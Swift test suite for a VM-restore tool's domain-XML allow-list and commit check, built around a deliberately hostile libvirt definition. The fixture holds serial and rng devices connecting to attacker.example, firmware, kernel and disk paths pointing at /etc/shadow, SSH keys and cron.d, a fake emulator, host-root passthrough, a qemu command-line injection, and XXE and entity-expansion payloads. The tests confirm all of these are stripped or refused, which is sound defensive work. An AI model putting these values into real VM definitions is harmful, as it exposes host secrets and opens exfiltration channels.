import DomainXML
import Testing

/// A recovery point's domain XML written by a hostile source host: what a restore defines from it holds only what
/// the allow-list lets through, and names the rest.
@Suite struct DomainAllowListTests {
    /// A definition with everything a hostile host could put into a point, around a VM with disks vda and vdb.
    static let hostile = """
        <domain type='kvm' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
          <name>web1</name>
          <uuid>8a5e2b0c-1111-4222-8333-944445555666</uuid>
          <title>Web server</title>
          <memory unit='KiB'>1048576</memory>
          <currentMemory unit='KiB'>1048576</currentMemory>
          <vcpu placement='static'>2</vcpu>
          <os firmware='efi'>
            <type arch='x86_64' machine='pc-q35-7.2'>hvm</type>
            <loader readonly='yes' type='pflash'>/usr/share/OVMF/OVMF_CODE_4M.fd</loader>
            <nvram template='/usr/share/OVMF/OVMF_VARS_4M.fd'>/etc/shadow</nvram>
            <kernel>/root/.ssh/id_rsa</kernel>
            <initrd>/etc/libvirt/secrets/key</initrd>
            <cmdline>console=ttyS0</cmdline>
            <boot dev='hd'/>
          </os>
          <features><acpi/><apic/></features>
          <cpu mode='host-model'/>
          <clock offset='utc'/>
          <on_poweroff>destroy</on_poweroff>
          <on_reboot>restart</on_reboot>
          <on_crash>destroy</on_crash>
          <devices>
            <emulator>/tmp/evil-qemu</emulator>
            <disk type='file' device='disk'>
              <driver name='qemu' type='qcow2' cache='none'/>
              <source file='/var/lib/libvirt/images/web1.qcow2'/>
              <target dev='vda' bus='virtio'/>
              <boot order='1'/>
            </disk>
            <disk type='block' device='disk'>
              <driver name='qemu' type='raw'/>
              <source dev='/dev/vg0/web1-data'/>
              <target dev='vdb' bus='virtio'/>
            </disk>
            <disk type='block' device='lun'>
              <source dev='/dev/sda'/>
              <target dev='sda' bus='scsi'/>
            </disk>
            <disk type='network' device='disk'>
              <source protocol='rbd' name='pool/other-vm'><host name='ceph1'/></source>
              <target dev='vdc' bus='virtio'/>
            </disk>
            <disk type='file' device='disk'>
              <source file='/etc/passwd'/>
              <target dev='vdd' bus='virtio'/>
            </disk>
            <disk type='file' device='cdrom'>
              <source file='/root/secret.iso'/>
              <target dev='hdc' bus='sata'/>
            </disk>
            <controller type='usb' index='0' model='qemu-xhci'><alias name='usb'/></controller>
            <interface type='network'>
              <mac address='52:54:00:12:34:56'/>
              <source network='default'/>
              <model type='virtio'/>
              <script path='/tmp/evil.sh'/>
            </interface>
            <interface type='network'>
              <source network='dmz'/>
              <model type='virtio'/>
            </interface>
            <interface type='ethernet'>
              <script path='/tmp/evil.sh'/>
            </interface>
            <serial type='file'><source path='/etc/cron.d/evil'/><target port='0'/></serial>
            <serial type='tcp'><source mode='connect' host='attacker.example' service='4444'/><target port='1'/></serial>
            <serial type='udp'><source mode='connect' host='attacker.example' service='4445'/><target port='2'/></serial>
            <console type='pty'><target type='serial' port='0'/></console>
            <channel type='unix'>
              <source mode='bind' path='/etc/evil.sock'/>
              <target type='virtio' name='org.qemu.guest_agent.0'/>
            </channel>
            <input type='tablet' bus='usb'/>
            <input type='passthrough' bus='virtio'><source evdev='/dev/input/event0'/></input>
            <graphics type='vnc' port='-1' autoport='yes' listen='0.0.0.0' passwd='x'/>
            <video><model type='virtio' heads='1' primary='yes'/></video>
            <hostdev mode='subsystem' type='pci' managed='yes'>
              <source><address domain='0x0000' bus='0x03' slot='0x00' function='0x0'/></source>
            </hostdev>
            <filesystem type='mount' accessmode='passthrough'>
              <source dir='/'/>
              <target dir='hostroot'/>
            </filesystem>
            <rng model='virtio'><backend model='random'>/dev/urandom</backend></rng>
            <rng model='virtio'><backend model='egd' type='tcp'><source mode='connect' host='attacker.example' service='1'/></backend></rng>
            <memballoon model='virtio'/>
          </devices>
          <seclabel type='none' model='apparmor'/>
          <qemu:commandline>
            <qemu:arg value='-object'/>
            <qemu:arg value='memory-backend-file,id=x,mem-path=/etc/shadow,share=on'/>
          </qemu:commandline>
        </domain>
        """

    static let disks = [
        "vda": DomainAllowList.Disk(path: "/restore/copy-vda.qcow2", format: "qcow2"),
        "vdb": DomainAllowList.Disk(path: "/restore/copy-vdb.qcow2", format: "qcow2"),
    ]

    static func copy() throws -> DomainAllowList.Result {
        try DomainAllowList(
            name: "copy", uuid: "0d6a1f7e-2222-4333-8444-955556666777", disks: disks, networks: ["default"]
        ).build(from: hostile)
    }

    @Test func aHostileDefinitionKeepsNothingThatReachesTheHost() throws {
        let result = try Self.copy()
        let xml = result.xml
        for part in [
            "commandline", "qemu:", "hostdev", "filesystem", "/etc/shadow", "/root/.ssh", "/etc/libvirt", "/tmp/evil",
            "seclabel", "/dev/sda", "rbd", "/etc/passwd", "secret.iso", "dmz", "ethernet", "script", "/etc/cron.d",
            "attacker.example", "tcp", "udp", "/etc/evil.sock", "passthrough", "evdev", "0.0.0.0", "passwd", "egd",
            "web1", "8a5e2b0c", "52:54:00:12:34:56", "/var/lib/libvirt/images", "<alias",
        ] {
            #expect(!xml.contains(part), "'\(part)' is in the restored definition:\n\(xml)")
        }
        for part in [
            "<name>copy</name>", "<uuid>0d6a1f7e-2222-4333-8444-955556666777</uuid>", "<title>Web server</title>",
            "<memory unit=\"KiB\">1048576</memory>", "<vcpu placement=\"static\">2</vcpu>", "firmware=\"efi\"",
            "<type arch=\"x86_64\" machine=\"pc-q35-7.2\">hvm</type>",
            "<loader readonly=\"yes\" type=\"pflash\">/usr/share/OVMF/OVMF_CODE_4M.fd</loader>",
            "<nvram template=\"/usr/share/OVMF/OVMF_VARS_4M.fd\"/>", "<boot dev=\"hd\"/>", "<acpi/>",
            "<cpu mode=\"host-model\"/>", "<on_reboot>restart</on_reboot>",
            "<source file=\"/restore/copy-vda.qcow2\"/>", "<source file=\"/restore/copy-vdb.qcow2\"/>",
            "<driver name=\"qemu\" type=\"qcow2\" cache=\"none\"/>", "<boot order=\"1\"/>",
            "<source network=\"default\"/>", "<model type=\"virtio\"/>",
            "<serial type=\"pty\"><target port=\"0\"/></serial>", "<serial type=\"pty\"><target port=\"2\"/></serial>",
            "<console type=\"pty\"><target type=\"serial\" port=\"0\"/></console>",
            "<channel type=\"unix\"><target type=\"virtio\" name=\"org.qemu.guest_agent.0\"/></channel>",
            "<input type=\"tablet\" bus=\"usb\"/>", "<graphics type=\"vnc\" autoport=\"yes\"/>",
            "<model type=\"virtio\" heads=\"1\" primary=\"yes\"/>", "<controller type=\"usb\" index=\"0\" model=\"qemu-xhci\"/>",
            "<backend model=\"random\">/dev/urandom</backend>", "<memballoon model=\"virtio\"/>",
        ] {
            #expect(xml.contains(part), "'\(part)' is not in the restored definition:\n\(xml)")
        }
        #expect(xml.components(separatedBy: "<disk ").count - 1 == 2)
        #expect(xml.components(separatedBy: "<interface ").count - 1 == 1)
        #expect(xml.components(separatedBy: "<rng ").count - 1 == 1)
    }

    @Test func everythingLeftOutIsListed() throws {
        let dropped = try Self.copy().dropped.joined(separator: "\n")
        for part in [
            "<qemu:commandline>", "<hostdev mode='subsystem' type='pci'>", "<filesystem type='mount'>",
            "<seclabel type='none' model='apparmor'>", "<disk type='block' device='lun'> sda (/dev/sda)",
            "<disk type='network' device='disk'> vdc (pool/other-vm)", "<disk type='file' device='disk'> vdd (/etc/passwd)",
            "<disk type='file' device='cdrom'> hdc (/root/secret.iso)", "on network dmz, which this host does not have",
            "<interface type='ethernet'>", "<serial type='file'> /etc/cron.d/evil (made a pty)",
            "<serial type='tcp'> attacker.example:4444 (made a pty)", "<serial type='udp'> attacker.example:4445",
            "<input type='passthrough'>", "<rng model='virtio'>", "<emulator> /tmp/evil-qemu", "<nvram> /etc/shadow",
            "<kernel> /root/.ssh/id_rsa", "<initrd> /etc/libvirt/secrets/key", "listen address and password",
            "<cmdline> console=ttyS0 (its kernel was left out)",
        ] {
            #expect(dropped.contains(part), "'\(part)' is not listed as left out:\n\(dropped)")
        }
    }

    /// Put back in place: the VM's own MAC addresses, and the files its current definition on the host uses.
    @Test func inPlaceKeepsTheHostsOwnFilesAndMACs() throws {
        let result = try DomainAllowList(
            name: "web1", uuid: "8a5e2b0c-1111-4222-8333-944445555666", disks: Self.disks, keepMACs: true,
            networks: ["default"], hostPaths: ["/etc/cron.d/evil", "/root/.ssh/id_rsa"]
        ).build(from: Self.hostile)
        #expect(result.xml.contains("<mac address=\"52:54:00:12:34:56\"/>"))
        #expect(result.xml.contains("<source path=\"/etc/cron.d/evil\"/>"), "the host's own console file")
        #expect(result.xml.contains("<kernel>/root/.ssh/id_rsa</kernel><cmdline>console=ttyS0</cmdline>"))
        #expect(!result.xml.contains("/etc/libvirt") && !result.xml.contains("/tmp/evil"))
    }

    @Test func hostPathsAreReadFromTheHostsDefinition() throws {
        let paths = try DomainAllowList.hostPaths(in: Self.hostile)
        #expect(paths == [
            "/usr/share/OVMF/OVMF_CODE_4M.fd", "/usr/share/OVMF/OVMF_VARS_4M.fd", "/etc/shadow", "/root/.ssh/id_rsa",
            "/etc/libvirt/secrets/key", "/tmp/evil-qemu", "/etc/cron.d/evil",
        ])
    }

    @Test func firmwareOutsideTheFirmwareFoldersOrEscapingThemIsLeftOut() throws {
        let xml = """
            <domain type='kvm'><name>a</name><os><type>hvm</type><loader>/usr/share/../../etc/shadow</loader></os>
            <devices><disk type='file' device='disk'><target dev='vda'/></disk></devices></domain>
            """
        let result = try DomainAllowList(name: "b", uuid: "u", disks: Self.disks.filter { $0.key == "vda" }).build(from: xml)
        #expect(!result.xml.contains("shadow"))
        #expect(result.dropped.contains { $0.contains("<loader> /usr/share/../../etc/shadow") })
    }

    @Test func aDiskTheRestoreWroteMustBeInTheDefinition() {
        let xml = "<domain><name>a</name><devices><disk type='file' device='cdrom'><target dev='vda'/></disk></devices></domain>"
        #expect(throws: XMLFormatError.self) {
            try DomainAllowList(name: "b", uuid: "u", disks: Self.disks).build(from: xml)
        }
    }

    @Test func entitiesAndDocumentTypesAreRefused() {
        for xml in [
            """
            <?xml version="1.0"?><!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/shadow">]>
            <domain><name>&x;</name><devices/></domain>
            """,
            """
            <!DOCTYPE domain [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
            <domain><name>&b;</name></domain>
            """,
            "<!DOCTYPE domain SYSTEM \"http://attacker.example/x.dtd\"><domain><name>a</name></domain>",
        ] {
            #expect(throws: XMLFormatError.self) { try DomainAllowList(name: "b", uuid: "u", disks: [:]).build(from: xml) }
            #expect(throws: XMLFormatError.self) { try CommittedDomain.check(xml, name: "a", uuid: "u", targets: []) }
        }
    }
}

/// The commit check: the domain XML must be the committing VM's own definition.
@Suite struct CommittedDomainTests {
    static let uuid = "8a5e2b0c-1111-4222-8333-944445555666"

    @Test func theVMsOwnDefinitionWithHostileExtrasIsAccepted() throws {
        try CommittedDomain.check(DomainAllowListTests.hostile, name: "web1", uuid: Self.uuid.uppercased(), targets: ["vda", "vdb"])
    }

    @Test func whatCannotBeTheVMsDefinitionIsRefused() {
        let cases: [(xml: String, targets: [String], says: String)] = [
            ("", [], "empty"),
            ("<domain><name>web1</name>", [], "not well-formed"),
            ("<domainsnapshot><name>web1</name></domainsnapshot>", [], "expected <domain>"),
            ("<domain><name>db1</name></domain>", [], "names VM 'db1', not web1"),
            ("<domain><name>web1</name><uuid>00000000-0000-4000-8000-000000000000</uuid></domain>", [], "has UUID"),
            (DomainAllowListTests.hostile, ["vda", "sda"], "no disk sda"),
            (DomainAllowListTests.hostile, ["hdc"], "no disk hdc"),
            ("<domain><name>web1</name><description>" + String(repeating: "x", count: 1 << 20) + "</description></domain>", [],
                "more than the 1048576 accepted"),
        ]
        for (xml, targets, says) in cases {
            let error = #expect(throws: XMLFormatError.self) {
                try CommittedDomain.check(xml, name: "web1", uuid: Self.uuid, targets: targets)
            }
            #expect(error?.message.contains(says) == true, "\(String(describing: error)) should say \(says)")
        }
    }
}
